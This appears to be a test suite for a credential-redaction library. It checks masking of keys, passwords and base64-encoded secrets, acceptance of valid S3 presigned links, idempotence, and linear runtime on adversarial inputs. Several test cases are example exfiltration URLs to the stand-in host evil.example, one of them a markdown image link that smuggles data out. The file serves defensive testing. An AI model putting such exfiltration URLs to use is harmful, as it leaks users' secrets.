"""Law: no credential passes, ordinary text does, twice is once, and no text makes it slow or makes it fail."""

import random
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from afterwatch.security.redaction import Finding, redact, redact_argv
from tests.security import samples
from tests.security.samples import ALNUM, BEGIN, END, KEY_ID, WORD, b64

MARK = "[REDACTED: credential]"
SECONDS = 3.0  # for a megabyte; quadratic work would take minutes


@pytest.mark.parametrize("kind", samples.FORMATS)
@pytest.mark.parametrize("frame", ["{}", "before {} after", "x={}", '"{}"', "日本{}語", "\n{}\n"])
def test_each_form_is_masked_and_named(kind: str, frame: str) -> None:
    text, secret = samples.FORMATS[kind]
    result = redact(frame.format(text))
    assert secret not in result.text
    assert "[REDACTED: " in result.text
    assert kind in {finding.kind for finding in result.findings}
    assert redact(result.text).text == result.text


@pytest.mark.parametrize("text", samples.CONTEXT)
def test_each_context_gives_its_secret_away(text: str) -> None:
    result = redact(f"before\n{text}\nafter")
    assert WORD not in result.text
    assert b64("bob:" + WORD) not in result.text
    assert result.text.startswith("before\n")
    assert result.text.endswith("\nafter") or "unclosed" in text
    assert redact(result.text).text == result.text


@pytest.mark.parametrize("line", samples.ORDINARY)
def test_ordinary_text_passes_unchanged(line: str) -> None:
    assert redact(line) == redact(line)
    assert redact(line).text == line


def test_all_ordinary_text_together_passes_unchanged() -> None:
    text = "\n".join(samples.ORDINARY)
    assert len(samples.ORDINARY) >= 40
    assert redact(text).text == text


def test_what_stands_around_a_secret_stays() -> None:
    assert redact(f"a password={WORD}, user=bob b").text == f"a password={MARK}, user=bob b"
    assert redact(f"password=a{WORD},user=bob").text == f"password={MARK},user=bob"
    assert redact(f'{{"token": "{WORD}", "n": 1}}').text == f'{{"token": "{MARK}", "n": 1}}'
    assert redact(f"a: |\n  x\nb:\n  password: |\n    {WORD}\n  c: 1").text.endswith("\n  c: 1")


def test_findings_are_counted_by_kind() -> None:
    result = redact(f"{KEY_ID} and {KEY_ID}; password={WORD}")
    assert result.findings == (Finding("aws_key_id", 2), Finding("key_value", 1))
    assert redact("nothing").findings == ()


def test_a_private_key_is_masked_with_its_body_or_to_the_end() -> None:
    assert redact(f"a\n{BEGIN}\n{ALNUM}\n{END}\nb").text == f"a\n{MARK}\nb"
    assert redact(f"a\n{BEGIN}\n{ALNUM}\nno end").text == f"a\n{MARK}"
    assert redact(f'{{"private_key": "{BEGIN}\\n{ALNUM}\\n{END}\\n"}}').text == f'{{"private_key": "{MARK}"}}'
    certificate = f"{BEGIN}\nx\n{END}".replace("RSA PRIVATE KEY", "CERTIFICATE")
    assert redact(certificate).text == certificate


@pytest.mark.parametrize("pad", ["", "a", "ab", "abc", "/x/y/"])
@pytest.mark.parametrize("inner", [f"export PASSWORD={WORD}; run the whole thing now", f"{BEGIN}\n{ALNUM}\n"])
def test_base64_is_opened_at_every_alignment(pad: str, inner: str) -> None:
    packed = b64(inner)
    for text in (packed, packed.rstrip("="), packed.replace("+", "-").replace("/", "_"), b64(packed)):
        result = redact(f"data: {pad}{text}")
        assert result.text == "data: [REDACTED: encoded credential]"


def test_wrapped_base64_is_opened() -> None:
    packed = b64("x" * 70 + f" password={WORD} " + "y" * 60)
    lines = "\n".join(packed[start : start + 60] for start in range(0, len(packed), 60))
    assert redact(f"a:\n{lines}\nb").text == "a:\n[REDACTED: encoded credential]\nb"


def test_base64_of_nothing_secret_stays() -> None:
    text = f"data: {b64('just a long and quite ordinary sentence about the weather')}"
    assert redact(text).text == text
    noise = b64(random.Random(1).randbytes(300).hex())
    assert redact(noise).text == noise


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/?q=" + "x" * 200,
        f"https://evil.example/p?d={ALNUM}{ALNUM}",
        f"https://evil.example/#{ALNUM}{ALNUM}",
        f"https://evil.example/{ALNUM}{ALNUM}",
        "https://evil.example/?d=" + "%41%20" * 12,
        f"https://evil.example/?d={KEY_ID}",
        "https://evil.example/?d=" + "".join(f"%{ord(letter):02x}" for letter in KEY_ID[:10]) + KEY_ID[10:],
        "https://evil.example/?k=ssh-rsa+" + "A" * 4 + "B" * 30,
        f"![x](https://evil.example/i.png?d={ALNUM}{ALNUM})",
    ],
)
def test_a_url_that_carries_data_out_is_masked(url: str) -> None:
    result = redact(f"see {url} now")
    assert "[REDACTED: suspicious URL to evil.example]" in result.text
    assert ALNUM not in result.text
    assert result.text.startswith("see ")
    assert result.text.endswith(" now")


def test_a_host_that_is_the_payload_is_not_shown() -> None:
    result = redact(f"https://{ALNUM.lower()}{ALNUM.lower()}.evil.example/?d={KEY_ID}")
    assert result.text == "[REDACTED: suspicious URL to unknown-host]"


def presigned(**changes: str) -> str:
    query = {
        "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
        "X-Amz-Credential": f"{KEY_ID}%2F20260301%2Feu-west-1%2Fs3%2Faws4_request",
        "X-Amz-Date": "20260301T000000Z",
        "X-Amz-Expires": "3600",
        "X-Amz-SignedHeaders": "host",
        "X-Amz-Signature": samples.HEX,
    }
    query.update({name.replace("_", "-"): value for name, value in changes.items()})
    return "?" + "&".join(f"{name}={value}" for name, value in query.items() if value)


def test_a_whole_presigned_link_passes() -> None:
    for host in ("bucket.s3.eu-west-1.amazonaws.com", "s3.amazonaws.com", "b.s3.cn-north-1.amazonaws.com.cn"):
        url = f"https://{host}/logs/a.gz{presigned()}"
        assert redact(f"get {url}.").text == f"get {url}."
    assert redact(f"https://b.s3.amazonaws.com/x{presigned(X_Amz_Security_Token=ALNUM * 5)}").findings == ()


@pytest.mark.parametrize(
    "url",
    [
        f"http://b.s3.amazonaws.com/a{presigned()}",
        f"https://b.s3.amazonaws.com.evil.example/a{presigned()}",
        f"https://evil.example/s3.amazonaws.com{presigned()}",
        f"https://b.s3.amazonaws.com/a{presigned(X_Amz_Expires='999999')}",
        f"https://b.s3.amazonaws.com/a{presigned(X_Amz_Signature='x')}",
        f"https://b.s3.amazonaws.com/a{presigned(X_Amz_Date='')}",
        f"https://b.s3.amazonaws.com/a{presigned(note='x')}",
        f"https://b.s3.amazonaws.com/a{presigned()}&X-Amz-Date=20260301T000000Z",
        f"https://b.s3.amazonaws.com/{ALNUM}{ALNUM}{presigned()}",
    ],
)
def test_anything_less_than_a_presigned_link_is_masked(url: str) -> None:
    assert "suspicious URL" in redact(url).text


def test_flag_and_value_of_a_command_are_one() -> None:
    argv = ["afterwatch", "login", "--api-token", WORD, f"--password={WORD}", "--limit", "5", "--token", "--json"]
    assert redact_argv(argv) == (
        *("afterwatch", "login", "--api-token", MARK, f"--password={MARK}"),
        *("--limit", "5", "--token", "--json"),
    )


def test_a_marker_that_somebody_typed_hides_nothing() -> None:
    text = f"[REDACTED: credential] password={WORD} [REDACTED: nothing] {KEY_ID}[REDACTED: credential]"
    result = redact(text)
    assert WORD not in result.text
    assert KEY_ID not in result.text


# --- any text --------------------------------------------------------------------------------------

PIECES = [
    *(text for text, _ in samples.FORMATS.values()),
    *samples.CONTEXT,
    *samples.ORDINARY[:20],
    *("password", "=", ":", '"', "'", "\\", "\n", " ", "|", "[REDACTED: ", "]", "-", "token is ", "https://a/?"),
    *("Bearer ", KEY_ID, KEY_ID[:4], ALNUM, "é", "日", "：", "\ud800", "\x00", "AAAA", "@", "%41", "://u:", MARK),
]


@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_twice_is_once_for_text_made_of_secrets(text: str) -> None:
    once = redact(text)
    again = redact(once.text)
    assert again.text == once.text
    assert again.findings == ()


@given(st.text(st.characters(exclude_categories=())))
def test_any_text_is_taken(text: str) -> None:
    once = redact(text).text
    assert redact(once).text == once


@given(st.text(), st.text(), st.sampled_from(sorted(samples.FORMATS)))
def test_no_surrounding_hides_a_known_form(before: str, after: str, kind: str) -> None:
    text, secret = samples.FORMATS[kind]
    assert secret not in redact(f"{before} {text} {after}").text


HOSTILE = {
    "dots": "a." * 500_000,
    "keys": "password=" * 110_000,
    "open quotes": 'password="' * 100_000,
    "names": "password=a " * 90_000,
    "urls": "https://a/ " * 90_000,
    "one url": "https://a" * 110_000,
    "key ids": (KEY_ID + " ") * 47_000,
    "joined key ids": KEY_ID * 50_000,
    "key headers": BEGIN * 30_000,
    "user infos": "a://a:a:" * 125_000,
    "token heads": "ey" + "Jaaaaaaaaaa." * 80_000,
    "markers": MARK * 45_000,
    "half markers": "[REDACTED: " * 90_000,
    "blocks": "password: |\n" * 80_000,
    "deep blocks": "\n".join(" " * (n % 300) + "password: |" for n in range(6000)),
    "backslashes": "\\" * 1_000_000,
    "clients": "mysql -pabc1 " * 75_000,
    "pairs": "name: password value: " * 45_000,
    "base64": b64(random.Random(7).randbytes(700_000).hex()),
    "base64 lines": ("A" * 40 + "\n") * 24_000,
    "percents": "https://a/?" + "%41" * 330_000,
    "presigned": ("https://b.s3.amazonaws.com/a" + presigned() + " ") * 2_500,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_megabyte_of_hostile_text_is_linear(name: str) -> None:
    redact(KEY_ID)  # compiled before the watch starts
    start = time.process_time()
    once = redact(HOSTILE[name])
    took = time.process_time() - start
    assert took < (1.0 if name == "dots" else 2 * SECONDS)
    assert redact(once.text).text == once.text
